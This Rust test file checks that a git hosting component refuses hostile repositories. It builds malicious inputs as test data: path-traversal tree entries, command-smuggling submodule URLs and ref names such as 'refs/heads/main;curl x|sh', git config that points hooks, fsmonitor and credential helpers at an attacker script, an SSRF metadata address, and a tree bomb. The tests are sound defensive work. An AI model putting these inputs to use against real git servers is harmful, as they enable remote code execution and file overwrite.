//! Trees in and out of repositories, the good ones and those that were made to harm.

use crate::support::*;
use shipway_domain::CommitId;
use shipway_git::{CheckoutLimits, Fetched, Repo};
use std::io::Write;
use std::os::unix::fs::PermissionsExt;
use std::process::Stdio;
use tokio::io::{AsyncReadExt, AsyncWriteExt};

/// Writes an object past all of git's checks; its id.
fn object(repo: &Repo, kind: &str, content: &[u8]) -> String {
    let mut command = std::process::Command::new("git");
    command.arg("--git-dir").arg(repo.path()).args(["hash-object", "-w", "--literally", "--stdin", "-t", kind]);
    let mut child = command.stdin(Stdio::piped()).stdout(Stdio::piped()).spawn().unwrap();
    child.stdin.take().unwrap().write_all(content).unwrap();
    String::from_utf8(child.wait_with_output().unwrap().stdout).unwrap().trim().to_string()
}

/// Mode, name, id.
type Item<'a> = (&'a str, &'a str, &'a str);

fn tree_object(repo: &Repo, entries: &[Item<'_>]) -> String {
    let mut content = Vec::new();
    for (mode, name, id) in entries {
        content.extend_from_slice(format!("{mode} {name}\0").as_bytes());
        content.extend((0..20).map(|i| u8::from_str_radix(&id[2 * i..2 * i + 2], 16).unwrap()));
    }
    object(repo, "tree", &content)
}

fn commit_object(repo: &Repo, tree: &str) -> CommitId {
    let who = "Ada <ada@example.com> 1767225600 +0000";
    object(repo, "commit", format!("tree {tree}\nauthor {who}\ncommitter {who}\n\nHello\n").as_bytes()).parse().unwrap()
}

async fn checkout(server: &Server, commit: &CommitId, name: &str) -> Result<Vec<(String, String)>, String> {
    let out = server.directory.path().join(name);
    let limits = CheckoutLimits { entries: 10_000, bytes: 1 << 20, submodules: 4 };
    server.repo.checkout(commit, &out, limits).await.map_err(|error| error.to_string())?;
    Ok(tree(&out))
}

#[tokio::test(flavor = "multi_thread")]
async fn a_checkout_is_what_was_committed_and_nothing_else() {
    let server = Server::start().await;
    let work = server.clone_dir("work");
    work.init().await.commit("bin/run", "#!/bin/sh\n").await;
    std::fs::set_permissions(work.path.join("bin/run"), PermissionsExt::from_mode(0o755)).unwrap();
    std::os::unix::fs::symlink("../../../etc/passwd", work.path.join("link")).unwrap();
    work.commit("lines.txt", "a\nb\n").await;
    // Would leave out, rewrite or run something, if anybody listened to it.
    let attributes = "secret export-ignore\n*.txt text eol=crlf export-subst filter=evil\n";
    work.commit("secret", "$Format:%H$").await;
    let commit = work.commit(".gitattributes", attributes).await;
    work.ok(&["push", "heroku", "main"]).await;
    let found = checkout(&server, &commit, "out").await.unwrap();
    let expected = [
        (".gitattributes", attributes),
        ("bin/run", "#!/bin/sh\n"),
        ("lines.txt", "a\nb\n"),
        ("link", "-> ../../../etc/passwd"),
        ("secret", "$Format:%H$"),
    ];
    assert_eq!(found, expected.map(|(name, content)| (name.to_string(), content.to_string())));
    let mode =
        |name: &str| server.directory.path().join("out").join(name).metadata().unwrap().permissions().mode() & 0o777;
    assert_eq!((mode("bin/run"), mode("secret"), mode("bin")), (0o755, 0o644, 0o755));

    let message = "Build from an upload\n\nSecond paragraph";
    let imported = server.repo.import_tree(&server.directory.path().join("out"), message, 1_767_225_600).await.unwrap();
    assert_eq!(checkout(&server, &imported, "again").await.unwrap(), found);
    let again = server.repo.import_tree(&server.directory.path().join("again"), message, 1_767_225_660).await.unwrap();
    assert_eq!(again, imported, "the same files give the same commit, at any time");
    let other =
        server.repo.import_tree(&server.directory.path().join("again"), "Another", 1_767_225_660).await.unwrap();
    assert_ne!(other, imported, "it says something else");
    let info = server.repo.commit_info(&imported).await.unwrap();
    assert_eq!((info.subject.as_str(), info.time), ("Build from an upload", 1_767_225_600));
    let missing = CommitId::parse(&"1".repeat(40)).unwrap();
    assert!(checkout(&server, &missing, "missing").await.unwrap_err().contains("is not complete"));
    assert!(server.repo.commit_info(&missing).await.unwrap_err().to_string().contains("is not in this repository"));
}

#[tokio::test(flavor = "multi_thread")]
async fn imported_names_are_taken_as_they_are() {
    let server = Server::start().await;
    let from = server.directory.path().join("from");
    std::fs::create_dir_all(from.join(".git/hooks")).unwrap();
    std::fs::create_dir_all(from.join("empty")).unwrap();
    std::fs::write(from.join(".git/config"), "[core]").unwrap();
    for name in ["a \"quoted\" \\name", "new\nline", "-rf", "ü", ".gitignore"] {
        std::fs::write(from.join(name), "*\n").unwrap();
    }
    let commit = server.repo.import_tree(&from, "x", 1).await.unwrap();
    let found = checkout(&server, &commit, "out").await.unwrap();
    let names: Vec<&str> = found.iter().map(|(name, _)| name.as_str()).collect();
    assert_eq!(names, ["-rf", ".gitignore", "a \"quoted\" \\name", "new\nline", "ü"]);
}

#[tokio::test(flavor = "multi_thread")]
async fn attack_26_trees_that_would_write_elsewhere() {
    let server = Server::start().await;
    let repo = &server.repo;
    let file = object(repo, "blob", b"evil");
    let outside = object(repo, "blob", server.directory.path().join("victim").to_str().unwrap().as_bytes());
    let inner = tree_object(repo, &[("100644", "file", &file)]);
    let empty = object(repo, "blob", b"");
    let cases: &[(&[Item<'_>], &str)] = &[
        (&[("100644", "..", &file)], "not safe to write"),
        (&[("100644", "../victim", &file)], "not safe to write"),
        (&[("40000", ".git", &inner)], "not safe to write"),
        (&[("40000", ".GIT", &inner)], "not safe to write"),
        (&[("40000", "git~1", &inner)], "not safe to write"),
        (&[("100644", ".", &file)], "not safe to write"),
        (&[("100644", "", &file)], "not safe to write"),
        (&[("120000", "a", &outside), ("40000", "a", &inner)], "appears twice"),
        (&[("120000", "a", &outside), ("100644", "a", &file)], "appears twice"),
        (&[("120000", "a", &empty)], "a link to nowhere"),
        (&[("100644", "a", &inner)], "not a file"),
        (&[("40000", "a", &file)], "not a directory"),
        (&[("100777", "a", &file)], "an unknown mode"),
        (&[("100644", "a", &"1".repeat(40))], "not complete"),
        (&[("160000", "sub", &"2".repeat(40))], "has no url in .gitmodules"),
    ];
    for (place, (entries, expected)) in cases.iter().enumerate() {
        let commit = commit_object(repo, &tree_object(repo, entries));
        let error = checkout(&server, &commit, &format!("out{place}")).await.unwrap_err();
        assert!(error.contains(expected), "{entries:?}: {error}");
    }
    assert!(!server.directory.path().join("victim").exists());

    // 10^10 files in ten trees.
    let mut level = inner;
    for _ in 0..10 {
        let names: Vec<String> = (0..10).map(|i| i.to_string()).collect();
        let entries: Vec<Item<'_>> = names.iter().map(|name| ("40000", name.as_str(), level.as_str())).collect();
        level = tree_object(repo, &entries);
    }
    let error = checkout(&server, &commit_object(repo, &level), "bomb").await.unwrap_err();
    assert!(error.contains("more than 10000 files"), "{error}");
    let large = object(repo, "blob", &vec![b'x'; 600_000]);
    let tree = tree_object(repo, &[("100644", "a", &large), ("100644", "b", &large)]);
    let error = checkout(&server, &commit_object(repo, &tree), "large").await.unwrap_err();
    assert!(error.contains("more than 1 MiB"), "{error}");
}

#[tokio::test(flavor = "multi_thread")]
async fn attack_03_submodules_and_lfs_pointers_are_refused_by_name() {
    let server = Server::start().await;
    let check = async |place: usize, address: &str, expected: &str| {
        let modules =
            object(&server.repo, "blob", format!("[submodule \"x\"]\n\tpath = vendor\n\turl = {address}\n").as_bytes());
        let tree =
            tree_object(&server.repo, &[("100644", ".gitmodules", &modules), ("160000", "vendor", &"2".repeat(40))]);
        let error = checkout(&server, &commit_object(&server.repo, &tree), &format!("sub{place}")).await.unwrap_err();
        assert!(error.starts_with("submodule \"vendor\"") && error.contains(expected), "{address}: {error}");
    };
    let cases = [
        ("file:///etc", "only https:// addresses are fetched"),
        ("ext::sh -c id", "only https:// addresses are fetched"),
        ("ssh://-oProxyCommand=id/x", "only https:// addresses are fetched"),
        ("--upload-pack=id", "only https:// addresses are fetched"),
        ("../other.git", "only https:// addresses are fetched"),
        ("https://127.0.0.1/x.git", "is in a private network"),
        ("https://169.254.169.254/x.git", "is in a private network"),
        ("https://localhost:1/x.git", "is in a private network"),
    ];
    for (place, (address, expected)) in cases.into_iter().enumerate() {
        check(place, address, expected).await;
    }
    let pointer = b"version https://git-lfs.github.com/spec/v1\noid sha256:abc\nsize 12\n";
    let pointer = object(&server.repo, "blob", pointer);
    let tree = tree_object(&server.repo, &[("100644", "logo.psd", &pointer), ("100644", "video.mp4", &pointer)]);
    let error = checkout(&server, &commit_object(&server.repo, &tree), "lfs").await.unwrap_err();
    assert!(error.starts_with("2 files are Git LFS pointers, not their content (first: \"logo.psd\")"), "{error}");
}

#[tokio::test(flavor = "multi_thread")]
async fn attack_26_broken_objects_are_refused_at_the_door() {
    let server = Server::start().await;
    let work = server.clone_dir("work");
    work.init().await.commit("a", "1").await;
    let local = Repo::open(server.git.git(), &work.path.join(".git"));
    let file = object(&local, "blob", b"evil");
    let inner = tree_object(&local, &[("100644", "file", &file)]);
    let modules = object(&local, "blob", b"[submodule \"../../x\"]\n\tpath = a\n\turl = -u\n");
    let cases: &[&[Item<'_>]] = &[
        &[("40000", ".git", &inner)],
        &[("40000", "..", &inner)],
        &[("100644", "a", &file), ("100644", "a", &file)],
        &[("100644", "a/b", &file)],
        &[("100644", ".gitmodules", &modules)],
        &[("120000", ".gitmodules", &file)],
    ];
    for entries in cases {
        let commit = commit_object(&local, &tree_object(&local, entries));
        let screen = work.fails(&["push", "heroku", &format!("{commit}:refs/heads/main")]).await;
        assert!(screen.contains("fsck error") && screen.contains("unpacker error"), "{entries:?}: {screen}");
    }
    assert!(server.handler.seen.lock().unwrap().is_empty(), "none of them reached the handler");
    let raw = object(&local, "commit", b"tree 4b825dc642cb6eb9a060e54bf8d69288fbee4904\nnonsense\n");
    work.fails(&["push", "heroku", &format!("{raw}:refs/heads/main")]).await;
    work.ok(&["push", "heroku", "main"]).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn attack_26_thirty_broken_uploads_are_answered_with_a_sentence() {
    let server = Server::start().await;
    let zero = "0".repeat(40);
    let one = "1".repeat(40);
    let line = |text: &str| format!("{:04x}{text}", text.len() + 4);
    let command = |name: &str| line(&format!("{zero} {one} {name}\0 report-status side-band-64k"));
    let mut bodies: Vec<Vec<u8>> =
        ["", "0000", "0001", "fffg", "0003", "zzzz", "00040000", "0006a\n0000", "PACK", "\0\0\0\0"]
            .iter()
            .map(|body| body.as_bytes().to_vec())
            .collect();
    for name in [
        "refs/heads/main",
        "refs/heads/../../x",
        "refs/heads/a\nb",
        "--upload-pack=id",
        "-h",
        "refs/heads/$(id)",
        "refs/heads/main;curl x|sh",
        "HEAD",
        "refs/shipway/op/x",
        "refs/heads/.lock",
        "",
        "refs/heads/\u{1}",
    ] {
        bodies.push(format!("{}0000", command(name)).into_bytes());
        bodies.push(format!("{}0000PACK\0\0\0\u{2}\0\0\0\u{1}garbage", command(name)).into_bytes());
    }
    bodies.push([line(&format!("shallow {one}")).as_bytes(), command("refs/heads/main").as_bytes(), b"0000"].concat());
    bodies.push(line("shallow x").into_bytes());
    bodies.push(format!("{}0000", line(&format!("{one} {zero} refs/heads/main\0report-status"))).into_bytes());
    assert!(bodies.len() >= 30);
    for (service, gzip) in [("git-receive-pack", false), ("git-receive-pack", true), ("git-upload-pack", false)] {
        for body in &bodies {
            let mut head = format!(
                "POST /shop.git/{service} HTTP/1.1\r\nHost: x\r\nAuthorization: Basic aGVyb2t1OnRva2Vu\r\nConnection: close\r\n\
                 Content-Type: application/x-{service}-request\r\nContent-Length: {}\r\n",
                body.len()
            );
            if gzip {
                head.push_str("Content-Encoding: gzip\r\n");
            }
            let mut stream = tokio::net::TcpStream::connect(server.address).await.unwrap();
            stream.write_all(&[head.as_bytes(), b"\r\n", body].concat()).await.unwrap();
            let mut answer = Vec::new();
            stream.read_to_end(&mut answer).await.unwrap();
            let answer = String::from_utf8_lossy(&answer);
            assert!(answer.starts_with("HTTP/1.1 200"), "{service}: {:?}: {answer}", String::from_utf8_lossy(body));
        }
    }
    assert_eq!(server.head("refs/heads/main").await, None);
    let work = server.clone_dir("work");
    work.init().await.commit("a", "1").await;
    work.ok(&["push", "heroku", "main"]).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_submodule_that_was_fetched_once_is_checked_out_without_the_network() {
    let server = Server::start().await;
    let repo = &server.repo;
    let file = object(repo, "blob", b"library");
    let library = commit_object(repo, &tree_object(repo, &[("100644", "lib.py", &file)]));
    // The host is one that nobody can reach.
    keep_submodule(repo, &library);
    let modules = b"[submodule \"x\"]\n\tpath = vendor/x\n\turl = https://unreachable.invalid/x.git\n";
    let modules = object(repo, "blob", modules);
    let vendor = tree_object(repo, &[("160000", "x", library.as_str())]);
    let tree = tree_object(repo, &[("100644", ".gitmodules", &modules), ("40000", "vendor", &vendor)]);
    let found = checkout(&server, &commit_object(repo, &tree), "out").await.unwrap();
    assert_eq!(found[1], ("vendor/x/lib.py".to_string(), "library".to_string()));
}

#[tokio::test(flavor = "multi_thread")]
async fn attack_41_credentials_of_an_address_are_not_among_gits_arguments() {
    let scratch = tempfile::tempdir().unwrap();
    let (program, said) = (scratch.path().join("git"), scratch.path().join("arguments"));
    let script = format!("#!/bin/sh\nprintf '%s\\n' \"$@\" >> {}\nexec git \"$@\"\n", said.display());
    std::fs::write(&program, script).unwrap();
    std::fs::set_permissions(&program, PermissionsExt::from_mode(0o755)).unwrap();
    let server = Server::start_with(|config| {
        config.git = program;
        config.private_hosts = vec!["127.0.0.1".into()];
    })
    .await;
    let work = server.clone_dir("work");
    work.init().await.commit("a", "1").await;
    work.ok(&["push", "heroku", "main"]).await;

    let copy = Repo::create(server.git.git(), &scratch.path().join("copy.git")).await.unwrap();
    let fetch = async |credentials: &str| {
        let address = format!("http://{credentials}@{}/shop.git", server.address);
        let address = server.git.git().address(&address).unwrap();
        copy.fetch_remote(&address, None, &[], "+refs/heads/main:refs/heads/main").await.unwrap()
    };
    assert!(matches!(fetch("heroku:wr0ng").await, Fetched::Refused(said) if !said.contains("wr0ng")));
    assert_eq!(fetch("heroku:%74oken").await, Fetched::Done);
    assert!(copy.resolve("refs/heads/main").await.unwrap().is_some());
    let arguments = std::fs::read_to_string(&said).unwrap();
    let url = format!("http://{}/shop.git", server.address);
    assert!(arguments.lines().any(|argument| argument == url), "{arguments}");
    for secret in ["wr0ng", "token", "%74oken", "aGVyb2t1"] {
        assert!(!arguments.contains(secret), "{secret}: {arguments}");
    }
}

/// Keeps a commit as a submodule's, as a fetch does.
fn keep_submodule(repo: &Repo, commit: &CommitId) {
    let kept = ["update-ref", &format!("refs/shipway/submodules/{commit}"), commit.as_str()];
    assert!(std::process::Command::new("git").arg("--git-dir").arg(repo.path()).args(kept).status().unwrap().success());
}

#[tokio::test(flavor = "multi_thread")]
async fn attack_26_a_carriage_return_at_the_end_of_a_submodules_path() {
    let server = Server::start().await;
    let repo = &server.repo;
    let hooks = server.directory.path().join("hooks");
    std::fs::create_dir(&hooks).unwrap();
    let hook = object(repo, "blob", b"#!/bin/sh\nid\n");
    let library = commit_object(repo, &tree_object(repo, &[("100755", "post-checkout", &hook)]));
    keep_submodule(repo, &library);
    let link = object(repo, "blob", hooks.to_str().unwrap().as_bytes());
    let check = |modules: &str| {
        let modules = object(repo, "blob", modules.as_bytes());
        let entries = [
            (".gitmodules", "100644", modules.as_str()),
            ("vendor", "120000", &link),
            ("vendor\r", "160000", library.as_str()),
        ];
        commit_object(repo, &tree_object(repo, &entries.map(|(name, mode, id)| (mode, name, id))))
    };
    // Read back as it is written: the place that it names, and not the one without the carriage return.
    let quoted = check("[submodule \"x\"]\n\tpath = \"vendor\r\"\n\turl = https://unreachable.invalid/x.git\n");
    let found = checkout(&server, &quoted, "quoted").await.unwrap();
    let names: Vec<&str> = found.iter().map(|(name, _)| name.as_str()).collect();
    assert_eq!(names, [".gitmodules", "vendor", "vendor\r/post-checkout"]);
    let cut = check("[submodule \"x\"]\n\tpath = vendor\r\n\turl = https://unreachable.invalid/x.git\n");
    let error = checkout(&server, &cut, "cut").await.unwrap_err();
    assert!(error.contains("has no url in .gitmodules"), "{error}");
    assert_eq!(std::fs::read_dir(&hooks).unwrap().count(), 0, "nothing was written through the link");
}

#[tokio::test(flavor = "multi_thread")]
async fn attack_26_no_setting_of_a_repository_is_obeyed() {
    let server = Server::start_with(|config| config.private_hosts = vec!["127.0.0.1".into()]).await;
    let (repo, victim) = (&server.repo, server.directory.path().join("victim"));
    let evil = server.directory.path().join("evil");
    let run = evil.join("reference-transaction").display().to_string();
    let settings = format!(
        "[core]\n\tfsmonitor = {run}\n\tsshCommand = {run}\n\thooksPath = {}\n\taskPass = {run}\n\tpager = {run}\n\
         [credential]\n\thelper = {run}\n[diff]\n\texternal = {run}\n[filter \"evil\"]\n\tclean = {run}\n\tsmudge = {run}\n\
         [uploadpack]\n\tpackObjectsHook = {run}\n",
        evil.display()
    );
    // In a tree: a bare repository, as git would find it there. In another: a submodule with settings.
    let work = server.clone_dir("work");
    work.init().await;
    for (name, content) in
        [("HEAD", "ref: refs/heads/main\n"), ("config", &settings), ("refs/x", ""), ("objects/x", "")]
    {
        work.commit(&format!("embedded/{name}"), content).await;
    }
    let commit = work.commit(".gitattributes", "* filter=evil\n").await;
    let library = commit_object(repo, &tree_object(repo, &[("100644", "a", &object(repo, "blob", b"library"))]));
    keep_submodule(repo, &library);
    let modules = format!(
        "[submodule \"x\"]\n\tpath = x\n\turl = https://unreachable.invalid/x.git\n\tupdate = !{run}\n{settings}"
    );
    let modules = object(repo, "blob", modules.as_bytes());
    let tree = tree_object(repo, &[("100644", ".gitmodules", &modules), ("160000", "x", library.as_str())]);
    let with_submodule = commit_object(repo, &tree);

    // In the repository itself.
    let hooks = ["pre-receive", "update", "post-receive", "reference-transaction", "post-checkout", "proc-receive"];
    for at in [&evil, &repo.path().join("hooks")].into_iter().flat_map(|at| hooks.map(|hook| at.join(hook))) {
        std::fs::create_dir_all(at.parent().unwrap()).unwrap();
        std::fs::write(&at, format!("#!/bin/sh\ntouch {}\n", victim.display())).unwrap();
        std::fs::set_permissions(&at, PermissionsExt::from_mode(0o755)).unwrap();
    }
    let own = std::fs::read_to_string(repo.path().join("config")).unwrap();
    std::fs::write(repo.path().join("config"), own + &settings).unwrap();

    work.ok(&["push", "heroku", "main"]).await;
    let copy = server.clone_dir("copy");
    copy.ok(&["clone", "-q", &server.url(), copy.path.to_str().unwrap()]).await;
    let found = checkout(&server, &commit, "out").await.unwrap();
    assert!(found.iter().any(|(name, _)| name == "embedded/config"));
    repo.import_tree(&server.directory.path().join("out/embedded"), "Import it", 1).await.unwrap();
    let address = server.git.git().address(&server.url()).unwrap();
    assert_eq!(repo.fetch_remote(&address, None, &[], "+refs/heads/main:refs/shipway/x").await.unwrap(), Fetched::Done);
    let found = checkout(&server, &with_submodule, "submodule").await.unwrap();
    assert_eq!(found[1], ("x/a".to_string(), "library".to_string()));
    assert!(!victim.exists());
    // A git that is not ours obeys.
    keep_submodule(repo, &commit);
    assert!(victim.exists());
}

#[tokio::test(flavor = "multi_thread")]
async fn attack_26_names_that_differ_in_case_stay_two() {
    let server = Server::start().await;
    let work = server.clone_dir("work");
    work.init().await.commit("Makefile", "one").await;
    let commit = work.commit("makefile", "two").await;
    work.ok(&["push", "heroku", "main", "main~:refs/heads/Feature", "main:refs/heads/feature"]).await;
    let found = checkout(&server, &commit, "out").await.unwrap();
    assert_eq!(
        found,
        [("Makefile", "one"), ("makefile", "two")].map(|(name, text)| (name.to_string(), text.to_string()))
    );
    assert_eq!(server.head("refs/heads/feature").await, Some(commit.to_string()));
    assert_ne!(server.head("refs/heads/Feature").await, Some(commit.to_string()));
}
